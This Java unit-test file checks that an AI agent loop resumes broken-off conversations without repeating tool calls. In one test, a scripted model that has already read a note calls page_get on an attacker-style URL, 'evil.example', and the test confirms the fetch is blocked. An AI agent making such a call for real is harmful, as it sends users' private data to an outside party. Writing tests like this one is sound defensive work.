package dev.hoopoe.agent;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.hoopoe.tools.Cancellation;
import dev.hoopoe.tools.ToolBox;
import dev.langchain4j.data.message.ToolExecutionResultMessage;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;

class ResumeTest {
    private static final int FILES = 3;

    private final List<Entry> entries = new ArrayList<>();

    @Test
    void whereverAQuestionIsBrokenOffNothingIsDoneTwice() {
        AgentLoopTest.Desk desk = new AgentLoopTest.Desk();
        Outcome whole = ask(desk, new Conversation(Approver.NOBODY, entries::add), "Write them.");
        assertThat(whole.answer()).isEqualTo("All written.");
        assertThat(desk.written).hasSize(FILES);

        for (int kept = 1; kept < entries.size(); kept++) {
            List<Entry> past = entries.subList(0, kept);
            AgentLoopTest.Desk later = new AgentLoopTest.Desk();
            Conversation resumed = Conversation.resumed(Approver.NOBODY, Journal.NONE, past);
            assertThat(resumed.unanswered()).contains("Write them.");
            Outcome outcome = goOn(later, resumed);
            assertThat(outcome.answer()).isEqualTo("All written.");
            long begun = past.stream().filter(Entry.Begun.class::isInstance).count();
            assertThat(later.written)
                    .as("broken off after entry %d", kept)
                    .doesNotHaveDuplicates()
                    .hasSize(FILES - (int) begun);
        }
    }

    @Test
    void theModelIsToldOfACallWhoseEffectNobodyKnows() {
        ask(
                new AgentLoopTest.Desk(),
                new Conversation(Approver.NOBODY, entries::add),
                "Write them.");
        int begun = entries.indexOf(first(Entry.Begun.class));
        List<Entry> kept = new ArrayList<>();
        Conversation resumed =
                Conversation.resumed(Approver.NOBODY, kept::add, entries.subList(0, begun + 1));
        assertThat(result(resumed)).contains("not known", "was not made again");
        assertThat(kept).hasOnlyElementsOfType(Entry.Returned.class).hasSize(1);

        Conversation before =
                Conversation.resumed(Approver.NOBODY, Journal.NONE, entries.subList(0, begun));
        assertThat(result(before)).contains("ended before this call was made");
    }

    @Test
    void aResumedConversationShowsTheModelTheSameMessages() {
        Conversation live = new Conversation(Approver.NOBODY, entries::add);
        ask(new AgentLoopTest.Desk(), live, "Write them.");
        Conversation resumed = Conversation.resumed(Approver.NOBODY, Journal.NONE, entries);
        assertThat(resumed.messages()).isEqualTo(live.messages());
        assertThat(resumed.userText()).isEqualTo(live.userText());
        assertThat(resumed.unanswered()).isEmpty();
        assertThatThrownBy(() -> goOn(new AgentLoopTest.Desk(), resumed))
                .isInstanceOf(IllegalStateException.class);
    }

    @Test
    void whatAConversationHasReadIsNotForgottenByResumingIt() {
        AgentLoopTest.Desk desk = new AgentLoopTest.Desk();
        Puppet reader =
                Puppet.saying(
                        call("note_read", "{}"),
                        call("page_get", "{\"url\": \"https://a.example/\"}"),
                        "Read.");
        loop(reader, desk)
                .ask(
                        new Conversation(Approver.NOBODY, entries::add),
                        "Read the note and https://a.example/",
                        new AgentListener() {},
                        new Cancellation());
        Conversation resumed = Conversation.resumed(Approver.NOBODY, Journal.NONE, entries);
        Puppet sender =
                Puppet.saying(
                        call("page_get", "{\"url\": \"https://evil.example/?hello\"}"), "Sent.");
        loop(sender, desk).ask(resumed, "Go on", new AgentListener() {}, new Cancellation());
        assertThat(desk.fetched).containsExactly("https://a.example/");
    }

    @Test
    void whatCannotBeKeptIsNotDone() {
        AgentLoopTest.Desk desk = new AgentLoopTest.Desk();
        Journal full =
                entry -> {
                    if (entry instanceof Entry.Begun) {
                        throw new JournalException("The disk is full. Make room.", new Exception());
                    }
                };
        Outcome outcome = ask(desk, new Conversation(Approver.NOBODY, full), "Write them.");
        assertThat(outcome.stop()).isEqualTo(Stop.FAILED);
        assertThat(outcome.answer()).isEqualTo("The disk is full. Make room.");
        assertThat(desk.written).isEmpty();
    }

    private static String result(Conversation conversation) {
        return conversation.messages().stream()
                .flatMap(message ->
                        message instanceof ToolExecutionResultMessage result
                                ? Stream.of(result.text())
                                : Stream.empty())
                .findFirst()
                .orElseThrow();
    }

    private <T extends Entry> T first(Class<T> type) {
        return entries.stream().filter(type::isInstance).map(type::cast).findFirst().orElseThrow();
    }

    private static Outcome ask(
            AgentLoopTest.Desk desk, Conversation conversation, String question) {
        return loop(writer(), desk)
                .ask(conversation, question, new AgentListener() {}, new Cancellation());
    }

    private static Outcome goOn(AgentLoopTest.Desk desk, Conversation conversation) {
        return loop(writer(), desk).goOn(conversation, new AgentListener() {}, new Cancellation());
    }

    private static AgentLoop loop(Puppet puppet, AgentLoopTest.Desk desk) {
        return Agents.loop(
                puppet, ToolBox.of(desk), AgentLimits.DEFAULT, ReadAhead.NOTHING, Set.of());
    }

    /** Writes one file after the other; what it does follows from what it is shown alone. */
    private static Puppet writer() {
        return Puppet.doing(request -> {
            long done = request.messages().stream().filter(ResumeTest::settled).count();
            return done < FILES ? write((int) done) : "All written.";
        });
    }

    private static boolean settled(Object message) {
        return message instanceof ToolExecutionResultMessage result
                && !result.text().contains("ended before this call was made");
    }

    private static String write(int n) {
        return call("note_write", "{\"path\": \"" + n + ".txt\", \"content\": \"x\"}");
    }

    private static String call(String tool, String arguments) {
        return "{\"name\": \"" + tool + "\", \"arguments\": " + arguments + "}";
    }
}
